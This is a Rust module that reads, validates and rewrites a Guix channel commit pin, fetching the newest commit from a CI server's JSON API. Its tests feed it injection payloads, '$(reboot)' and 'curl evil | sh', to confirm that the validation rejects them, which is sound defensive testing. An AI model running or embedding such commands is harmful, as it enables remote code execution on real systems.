//! The guix channel pin: read and rewrite channels/channels.scm, find the newest commit with substitutes.

use std::path::Path;

#[derive(Debug, thiserror::Error)]
pub enum PinError {
    #[error("{path}: {message}")]
    File { path: String, message: String },
    #[error("`{0}` is not a commit: expected 40 hex digits")]
    BadCommit(String),
    #[error("{url} answered `{commit}` as the guix channel's newest evaluated commit, which is not a full commit id (40 lowercase hex digits); nothing was pinned")]
    BadAnswer { url: String, commit: String },
    #[error("cannot ask {url} for the newest evaluated commit: {message}")]
    Network { url: String, message: String },
}

impl PinError {
    /// What to do about it.
    pub fn fix(&self) -> Option<String> {
        match self {
            PinError::BadAnswer { url, .. } => Some(format!("check {url} by hand, or pass --set COMMIT")),
            PinError::Network { .. } => Some("this needs the internet (the pin-bump workflow runs it); offline, pass --set COMMIT".into()),
            PinError::BadCommit(_) => Some("pass a full commit id: 40 lowercase hex digits".into()),
            PinError::File { .. } => None,
        }
    }
}

fn commit_re() -> regex::Regex {
    regex::Regex::new(r#"\(commit\s+"([0-9a-f]{40})"\)"#).expect("regex")
}

/// The commit pinned in `path` (a channels.scm).
pub fn read(path: &Path) -> Result<String, PinError> {
    let text = std::fs::read_to_string(path).map_err(|e| PinError::File {
        path: path.display().to_string(),
        message: e.to_string(),
    })?;
    commit_re()
        .captures(&text)
        .map(|c| c[1].to_string())
        .ok_or_else(|| PinError::File {
            path: path.display().to_string(),
            message: "no (commit \"<40 hex digits>\") in the guix channel".into(),
        })
}

/// A full git commit id: 40 lowercase hex digits.
pub fn is_commit(s: &str) -> bool {
    s.len() == 40
        && s.bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
}

/// Rewrites the pinned commit in `path`; returns the previous one.
pub fn write(path: &Path, commit: &str) -> Result<String, PinError> {
    if !is_commit(commit) {
        return Err(PinError::BadCommit(commit.to_string()));
    }
    let old = read(path)?;
    let text = std::fs::read_to_string(path).expect("read just above");
    let new = commit_re().replace(&text, format!("(commit \"{commit}\")").as_str());
    std::fs::write(path, new.as_bytes()).map_err(|e| PinError::File {
        path: path.display().to_string(),
        message: e.to_string(),
    })?;
    Ok(old)
}

/// The newest guix commit that ci.guix.gnu.org evaluated successfully (its
/// builds, hence substitutes, follow), from Cuirass's JSON API.
pub async fn latest(base_url: &str) -> Result<String, PinError> {
    let url = format!("{base_url}/api/evaluations?nr=30");
    let step = format!("GET {url}");
    let body = crate::retry::network(
        &step,
        |_: &PinError| true,
        || {
            let url = url.clone();
            async move {
                tokio::task::spawn_blocking(move || {
                    let agent: ureq::Agent = ureq::Agent::config_builder()
                        .timeout_global(Some(std::time::Duration::from_secs(30)))
                        .build()
                        .into();
                    agent
                        .get(&url)
                        .call()
                        .and_then(|mut r| r.body_mut().read_to_string())
                        .map_err(|e| PinError::Network {
                            url: url.clone(),
                            message: e.to_string(),
                        })
                })
                .await
                .expect("http task")
            }
        },
    )
    .await?;
    let commit = newest_successful(&body).ok_or_else(|| PinError::Network {
        url: url.clone(),
        message: "no successful evaluation of the guix channel in the answer".into(),
    })?;
    // What a remote server says goes into a file, a commit message and a
    // pull request: only a full commit id gets through.
    if !is_commit(&commit) {
        return Err(PinError::BadAnswer { url, commit });
    }
    Ok(commit)
}

/// Picks the newest successful (status 0) evaluation's guix checkout.
pub fn newest_successful(json: &str) -> Option<String> {
    let evals: Vec<serde_json::Value> = serde_json::from_str(json).ok()?;
    evals
        .iter()
        .filter(|e| e["status"].as_i64() == Some(0))
        .max_by_key(|e| e["timestamp"].as_i64().unwrap_or(0))
        .and_then(|e| {
            e["checkouts"]
                .as_array()?
                .iter()
                .find(|c| c["channel"] == "guix")?["commit"]
                .as_str()
                .map(str::to_string)
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_and_rewrites_the_pin() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("channels.scm");
        std::fs::copy(crate::paths::Checkout::find().unwrap().channels(), &path).unwrap();
        let old = read(&path).unwrap();
        let new = "0123456789abcdef0123456789abcdef01234567";
        assert_eq!(write(&path, new).unwrap(), old);
        assert_eq!(read(&path).unwrap(), new);
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(
            text.contains("9edb3f66fd807b096b48283debdcddccfea34bad"),
            "the introduction stays"
        );
    }

    #[test]
    fn rejects_what_is_not_a_commit() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("channels.scm");
        std::fs::copy(crate::paths::Checkout::find().unwrap().channels(), &path).unwrap();
        for bad in ["master", "0123", "0123456789ABCDEF0123456789ABCDEF01234567"] {
            assert!(
                matches!(write(&path, bad), Err(PinError::BadCommit(_))),
                "{bad}"
            );
        }
    }

    #[test]
    fn only_full_commit_ids_are_commits() {
        assert!(is_commit("0123456789abcdef0123456789abcdef01234567"));
        for bad in [
            "",
            "master",
            "0123456789abcdef",
            "0123456789ABCDEF0123456789ABCDEF01234567",
            "0123456789abcdef0123456789abcdef0123456g",
            "0123456789abcdef0123456789abcdef01234567\n",
            "$(reboot)0123456789abcdef0123456789abcdef0",
        ] {
            assert!(!is_commit(bad), "{bad:?}");
        }
    }

    #[test]
    fn picks_the_newest_successful_evaluation() {
        let json = r#"[
          {"id": 3, "status": 1, "timestamp": 300, "checkouts": [{"channel": "guix", "commit": "c3"}]},
          {"id": 2, "status": 0, "timestamp": 200, "checkouts": [{"channel": "guix", "commit": "c2"}]},
          {"id": 1, "status": 0, "timestamp": 100, "checkouts": [{"channel": "guix", "commit": "c1"}]}
        ]"#;
        assert_eq!(newest_successful(json).as_deref(), Some("c2"));
        assert_eq!(newest_successful("not json"), None);
    }

    /// A one-shot HTTP server on 127.0.0.1 answering `body` to the first request.
    fn serve_once(body: &'static str) -> String {
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        std::thread::spawn(move || {
            if let Ok((mut conn, _)) = listener.accept() {
                let mut buf = [0u8; 4096];
                let _ = conn.read(&mut buf);
                let _ = write!(
                    conn,
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        url
    }

    #[tokio::test]
    async fn latest_refuses_an_answer_that_is_not_a_commit() {
        let url = serve_once(
            r#"[{"status": 0, "timestamp": 1, "checkouts": [{"channel": "guix", "commit": "abc\"; curl evil | sh; \""}]}]"#,
        );
        let err = latest(&url).await.unwrap_err();
        assert!(matches!(err, PinError::BadAnswer { .. }), "{err}");
        assert!(err.to_string().contains("not a full commit id"), "{err}");

        let url = serve_once(
            r#"[{"status": 0, "timestamp": 1, "checkouts": [{"channel": "guix", "commit": "0123456789abcdef0123456789abcdef01234567"}]}]"#,
        );
        assert_eq!(
            latest(&url).await.unwrap(),
            "0123456789abcdef0123456789abcdef01234567"
        );
    }
}
